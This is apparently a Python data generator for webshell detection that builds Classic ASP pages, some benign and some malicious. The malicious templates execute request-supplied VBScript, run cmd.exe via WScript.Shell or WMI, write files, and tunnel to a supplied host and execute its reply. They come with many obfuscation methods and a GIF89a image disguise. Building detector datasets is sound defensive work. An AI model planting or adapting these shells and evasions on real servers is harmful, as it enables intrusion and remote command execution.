"""Classic ASP (VBScript): how texts are hidden, what shells do, and what harmless pages do."""

from __future__ import annotations

import random

from obfuscation import (
    Deed,
    Language,
    Way,
    as_it_is,
    base64_,
    each,
    every_second,
    hexadecimal,
    hexadecimal_apart,
    mirrored,
    multiplied,
    numbers_text,
    outside_texts,
    percents,
    picked,
    pieces,
    reversed_,
    shifted,
    stuffed,
    xored,
    xored_by_word,
)


def quote(text: str) -> str:
    """A text of Basic."""
    return '"' + text.replace('"', '""') + '"'


def case_noise(rng: random.Random, code: str) -> str:
    """With letters of any case."""
    return outside_texts(
        r"\b[A-Za-z]+\b",
        code,
        lambda found: "".join(rng.choice((one.upper(), one.lower())) for one in found[0]),
    )


def continued(rng: random.Random, code: str) -> str:
    """With lines that go on behind `&`."""
    return outside_texts("&(?![Hh])", code, lambda _: rng.choice(("&", "& _\n ", "  &\t")))


_FOR = "For $i=1 To Len($a)\n$r=$r&"
_WAYS = (
    Way("pieces", pieces("&"), "$bare"),
    Way("pieces added", pieces(" + "), "$bare"),
    Way("Chr", each("Chr($n)", "&"), "$bare"),
    Way("ChrW", each("ChrW($more-$less)", " & "), "$bare"),
    Way("Chr of hex", each("Chr(&H$x)", "&"), "$bare"),
    Way("Chr of octal", each("Chr(&O$o)", "&"), "$bare"),
    Way("Chr of CInt", each('Chr(CInt("$more")-$less)', "&"), "$bare"),
    Way("StrReverse", reversed_, "StrReverse($data)"),
    Way("Replace", stuffed, 'Replace($data,$junk,"")'),
    Way("Replace by a constant", stuffed, "Replace($data,$c,$e)", "Const $c=$junk\n$e=Empty"),
    Way("Split and Join", stuffed, 'Join(Split($data,$junk),"")'),
    Way("Split and For Each", stuffed, "$r",
        'For Each $c In Split($data,$junk)\n$r=$r & $c\nNext'),
    Way("unescape of JScript", percents, "$f($data)", "",
        'Function $f($a)\nDim $i,$p,$r\n$p=Split($a,"%")\nFor $i=1 To UBound($p)\n'
        '$r=$r & Chr(CInt("&H" & $p($i)))\nNext\n$f=$r\nEnd Function'),
    Way("shift in For", shifted, "$f($data)", "",
        "Function $f($a)\nDim $i,$r\n" + _FOR + "Chr(Asc(Mid($a,$i,1))-$key)\nNext\n$f=$r\n"
        "End Function"),
    Way("shift in Do", shifted, "$f($data)", "",
        'Function $f($a) : $r="" : $i=1 : Do While $i<=Len($a) : '
        "$r=$r&Chr(Asc(Mid($a,$i,1))-$key) : $i=$i+1 : Loop : $f=$r : End Function"),
    Way("shift at the end of Do", shifted, "$r",
        '$v=$data : $r="" : $i=1 : Do : $r=$r & Chr(Asc(Mid($v,$i,1))-$key) : $i=$i+1 : '
        "Loop While $i<=Len($v)"),
    Way("shift and Exit Do", shifted, "$r",
        "$v=$data\n$i=0\nDo\n$i=$i+1\nIf $i>Len($v) Then Exit Do\n"
        "$r=$r & Chr(Asc(Mid($v,$i,1))-$key)\nLoop"),
    Way("shift by ByRef", shifted, "$v",
        "$v=$data\nCall $f($v,$key)",
        "Sub $f(ByRef $a,$k)\nDim $i,$r\n" + _FOR + "Chr(Asc(Mid($a,$i,1))-$k)\nNext\n$a=$r\n"
        "End Sub"),
    Way("shift by a parameter", shifted, "$f($data,$key)", "",
        "Function $f(ByVal $a,ByVal $k)\nDim $i\n"
        "For $i=1 To Len($a)\n$f=$f & Chr(Asc(Mid($a,$i,1))-$k)\nNext\nEnd Function"),
    Way("recursion", shifted, "$f($data)", "",
        'Function $f($a)\nIf Len($a)=0 Then\n$f=""\nElse\n'
        "$f=Chr(Asc(Left($a,1))-$key) & $f(Mid($a,2))\nEnd If\nEnd Function"),
    Way("two functions", shifted, "$f($data)", "",
        "Function $g($c)\n$g=Chr(Asc($c)-$key)\nEnd Function\n"
        "Function $f($a)\nDim $i,$r\n" + _FOR + "$g(Mid($a,$i,1))\nNext\n$f=$r\nEnd Function"),
    Way("from the end", reversed_, "$f($data)", "",
        "Function $f($a)\nDim $i\nFor $i=Len($a) To 1 Step -1\n$f=$f & Mid($a,$i,1)\nNext\n"
        "End Function"),
    Way("every second letter", every_second, "$f($data)", "",
        "Function $f($a)\nDim $i,$r\nFor $i=1 To Len($a) Step 2\n$r=$r & Mid($a,$i,1)\nNext\n"
        "$f=$r\nEnd Function"),
    Way("InStr in letters", mirrored, "$f($data)", "",
        "Function $f($a)\nDim $i,$p,$r,$k\n$k=$letters\nFor $i=1 To Len($a)\n"
        "$p=InStr($k,Mid($a,$i,1))\nIf $p>0 Then\n$r=$r & Mid($k,Len($k)+1-$p,1)\nElse\n"
        "$r=$r & Mid($a,$i,1)\nEnd If\nNext\n$f=$r\nEnd Function"),
    Way("Select Case", shifted, "$f($data)", "",
        "Function $f($a)\nDim $i,$n,$r\nFor $i=1 To Len($a)\n$n=Asc(Mid($a,$i,1))\n"
        "Select Case $n\nCase 0\n$r=$r & vbTab\nCase Else\n$r=$r & Chr($n-$key)\nEnd Select\n"
        "Next\n$f=$r\nEnd Function"),
    Way("letters by their places", picked("Mid($held,$nth,1)", "&"), "$bare", "$held=$letters"),
    Way("hex", hexadecimal, "$f($data)", "",
        'Function $f($a)\nFor $i=1 To Len($a) Step 2\n$r=$r&Chr(CLng("&H"&Mid($a,$i,2)))\n'
        "Next\n$f=$r\nEnd Function"),
    Way("hex eaten from the left", hexadecimal, "$r",
        '$v=$data\nWhile Len($v)>0\n$r=$r & Chr("&H" & Left($v,2))\n$v=Mid($v,3)\nWend'),
    Way("hex by Split", hexadecimal_apart, "$f($data)", "",
        'Function $f($a)\nDim $c\nFor Each $c In Split($a,"-")\n$f=$f & Chr("&H" & $c)\nNext\n'
        "End Function"),
    Way("numbers by Split", numbers_text, "$f($data)", "",
        'Function $f($a)\nDim $p,$i,$r\n$p=Split($a,",")\nFor $i=0 To UBound($p)\n'
        "$r=$r & Chr($p($i)-$key)\nNext\n$f=$r\nEnd Function"),
    Way("Xor of an array", xored, "$r",
        "For Each $c In Array($bare)\n$r=$r&Chr($c Xor $key)\nNext"),
    Way("Xor by a word", xored_by_word, "$f(Array($bare),$word)", "",
        "Function $f($a,$k)\nDim $i,$r\nFor $i=0 To UBound($a)\n"
        "$r=$r & Chr($a($i) Xor Asc(Mid($k,($i Mod Len($k))+1,1)))\nNext\n$f=$r\nEnd Function"),
    Way("division of an array", multiplied, "$f(Array($bare))", "",
        "Function $f($a)\nDim $c,$r\nFor Each $c In $a\n$r=$r & ChrW($c/$key)\nNext\n$f=$r\n"
        "End Function"),
    Way("array turned and joined", xored, 'Join($v,"")',
        "$v=Array($bare)\nFor $i=0 To UBound($v)\n$v($i)=Chr($v($i) Xor $key)\nNext"),
    Way("base64 of MSXML", base64_, "$f($data)", "",
        'Function $f($a)\nDim $d,$s\nSet $d=CreateObject("Msxml2.DOMDocument").createElement("t")\n'
        '$d.dataType="bin.base64"\n$d.text=$a\nSet $s=CreateObject("ADODB.Stream")\n'
        "$s.Type=1:$s.Open:$s.Write $d.nodeTypedValue:$s.Position=0:$s.Type=2\n"
        '$s.Charset="us-ascii"\n$f=$s.ReadText\nEnd Function'),
    Way("base64 by hand", base64_, "$f($data)", "",
        'Function $f($a)\nDim $i,$j,$n,$r,$k\n$k="ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrst'
        'uvwxyz0123456789+/"\nFor $i=1 To Len($a) Step 4\n$n=0\nFor $j=0 To 3\n'
        '$n=$n*64\nIf Mid($a,$i+$j,1)<>"=" Then $n=$n+InStr($k,Mid($a,$i+$j,1))-1\nNext\n'
        '$r=$r & Chr($n\\65536) & Chr(($n\\256) Mod 256) & Chr($n Mod 256)\nNext\n'
        '$f=Replace($r,Chr(0),"")\nEnd Function'),
    Way("hex of MSXML", hexadecimal, "$f($data)", "",
        'Function $f($a)\nDim $d\nSet $d=CreateObject("Microsoft.XMLDOM").createElement("t")\n'
        '$d.dataType="bin.hex"\n$d.text=$a\nDim $i,$b\n$b=$d.nodeTypedValue\n'
        "For $i=1 To LenB($b)\n$f=$f & Chr(AscB(MidB($b,$i,1)))\nNext\nEnd Function"),
    Way("class", shifted, "$o.$m($data)", "Set $o=New $q",
        "Class $q\nPublic Function $m($a)\nDim $i,$r\n" + _FOR + "Chr(Asc(Mid($a,$i,1))-$key)\n"
        "Next\n$m=$r\nEnd Function\nEnd Class"),
    Way("Eval of an expression", each("Chr($n)", "&"), 'Eval("$bare")'),
    Way("Execute of a decoder", shifted, "$f($data)",
        'Execute "Function $f($a):For $i=1 To Len($a):$f=$f&Chr(Asc(Mid($a,$i,1))-$key):Next:'
        'End Function"'),
    Way("as it is", as_it_is, "$data"),
)  # fmt: skip

_SHELLS = (
    Deed("run-code", "Execute $asked"),
    Deed("run-code", "ExecuteGlobal $asked"),
    Deed("run-code", "Response.Write Eval($asked)"),
    Deed("run-code", 'Execute «eval request("a")»'),
    Deed("run-code", 'ExecuteGlobal «Execute(Request.Form("z"))»'),
    Deed("run-code", "$c=«Exe» & «cute»\nEval($c & «(Request(1))»)"),
    Deed("run-code", "Set $v=New $c\n$v.$m=$asked",
         "Class $c\nPublic Property Let $m($o)\nExecute $o\nEnd Property\nEnd Class"),
    Deed("run-code", "Set $s=CreateObject(«MSScriptControl.ScriptControl»)\n"
         "$s.Language=«VBScript»\n$s.AddCode $asked"),
    Deed("run-code", "Set $f=GetRef(«$p»)\n$f $asked", "Sub $p($a)\nExecuteGlobal $a\nEnd Sub"),
    Deed("run-code", "Set $d=CreateObject(«Scripting.Dictionary»)\n$d.Add «k»,$asked\n"
         "Execute $d.Item(«k»)"),
    Deed("run-commands", "Set $w=Server.CreateObject(«WScript.Shell»)\n"
         "Response.Write $w.Exec(«cmd /c » & $asked).StdOut.ReadAll"),
    Deed("run-commands", "CreateObject(«WScript.Shell»).Run $asked,0,True"),
    Deed("run-commands", "CreateObject(«Shell.Application»).ShellExecute «cmd.exe»,«/c »&$asked"),
    Deed("run-commands", "GetObject(«winmgmts:\\\\.\\root\\cimv2:Win32_Process»).Create $asked"),
    Deed("write-files", "Set $s=Server.CreateObject(«Adodb.Stream»)\n$s.Type=2:$s.Open\n"
         "$s.WriteText $asked\n$s.SaveToFile Server.MapPath($asked),2"),
    Deed("write-files", "Set $f=CreateObject(«Scripting.FileSystemObject»)\n"
         "Set $t=$f.CreateTextFile(Server.MapPath($asked),True)\n$t.Write $asked\n$t.Close"),
    Deed("query-databases", "Set $c=Server.CreateObject(«ADODB.Connection»)\n$c.Open $asked\n"
         "Set $r=$c.Execute($asked)\nResponse.Write $r.GetString"),
    Deed("tunnel", "Set $x=Server.CreateObject(«MSXML2.ServerXMLHTTP»)\n"
         "$x.Open $asked,$asked,False\n$x.Send Request.BinaryRead(Request.TotalBytes)\n"
         "Execute $x.responseText"),
)  # fmt: skip

_HARMLESS = (
    Deed("e-mail address", "Response.Write «mailto:info@example.org»"),
    Deed("captcha", "Session(«captcha»)=Int(Rnd*9000)\nIf CStr(Session(«captcha»))=$asked Then "
         "Response.Write «ok»"),
    Deed("database", "Set $c=Server.CreateObject(«ADODB.Connection»)\n"
         "$c.Open «Provider=SQLOLEDB;Server=db;Database=shop»\n"
         "Set $r=$c.Execute(«select name from products where id=» & CLng($asked))\n"
         "Response.Write $r(«name»)"),
    Deed("news from a file", "Set $f=Server.CreateObject(«Scripting.FileSystemObject»)\n"
         "Set $t=$f.OpenTextFile(Server.MapPath(«news.txt»))\nResponse.Write $t.ReadAll"),
    Deed("list for a spreadsheet", "Response.AddHeader «Content-Disposition»,«attachment; "
         "filename=list.csv»\nResponse.Write «name;price» & vbCrLf & Replace($asked,«;»,«,»)"),
    Deed("template", "Response.Write Replace(«<b>{name}</b>»,«{name}»,Server.HTMLEncode($asked))"),
    Deed("way on", "Response.Redirect «/default.asp?id=» & Server.URLEncode($asked)"),
    Deed("language", "Select Case $asked\nCase «de»\nResponse.Write «Guten Tag»\nCase Else\n"
         "Response.Write «Good day»\nEnd Select"),
    Deed("counter", "Application.Lock\nApplication(«hits»)=Application(«hits»)+1\n"
         "Application.Unlock\nResponse.Write Application(«hits»)"),
    Deed("log of visits", "Set $f=Server.CreateObject(«Scripting.FileSystemObject»)\n"
         "Set $t=$f.OpenTextFile(Server.MapPath(«visits.log»),8,True)\n$t.WriteLine Now & $asked"),
    Deed("signing in", "If $asked=«guest» Then Session(«user»)=«guest»"),
    Deed("cookie", "Response.Cookies(«theme»)=$asked\nResponse.Cookies(«theme»).Expires=Date+30"),
)  # fmt: skip

ASP = Language(
    name="Classic ASP",
    quote=quote,
    ways=_WAYS,
    asked=(
        'Request("$k")', 'Request.Form("$k")', 'Request.QueryString("$k")', 'Request.Item("$k")',
        'Request.ServerVariables("HTTP_X_A")', 'Request.Cookies("$k")', "Request(0)",
        "Request(«$k»)", 'Trim(Request("$k"))', 'Mid(Request("$k"),3)',
        'StrReverse(Request("$k"))', 'Replace(Request.Form("$k"),"_"," ")',
    ),
    keeps=(
        ("$v=$value", "$v"), ("Dim $v : $v=$value", "$v"),
        ('Session("$v")=$value', 'Session("$v")'),
        ('Application("$v")=$value', 'Application("$v")'), ("$v=Array(0,$value)", "$v(1)"),
        ("ReDim $v(2)\n$v(1)=$value", "$v(1)"),
        ('Set $v=CreateObject("Scripting.Dictionary")\n$v.Add "$k",$value', '$v("$k")'),
        ('Set $v=CreateObject("Scripting.Dictionary")\n$v("$k")=$value', '$v.Item("$k")'),
        ("$v=$value\n$w=$v", "$w"), ("If 1=1 Then $v=$value", "$v"),
    ),
    padding=(
        "On Error Resume Next", "If 1=2 Then\n$v=Now\nEnd If", "$v=\"$w\" ' $w",
        "For $i=1 To 3\n$n=$n+$i\nNext", "Rem $v", "Response.Buffer=True",
        "Function $f($a)\n$f=$a*2\nEnd Function",
    ),
    shells=_SHELLS,
    harmless=_HARMLESS,
    wraps=(
        ("asp", "<%\n$body\n$functions\n%>"),
        ("asp", "<%$functions\n$body%>"),
        ("cer", "<%@ Language=VBScript %>\n<html><%\n$functions\n$body\n%></html>"),
        ("asp", '<script language="vbscript" runat="server">\n$functions\n$body\n</script>'),
        ("asa", "<SCRIPT RUNAT=SERVER LANGUAGE=VBScript>\n$functions\nSub Session_OnStart\n$body\n"
                "End Sub\n</SCRIPT>"),
    ),
    disguises=(("asp", "GIF89a\n<%\n$functions\n%>\n<p>\n<%\n$body\n%>"),),
    spellings=(case_noise, continued),
)  # fmt: skip
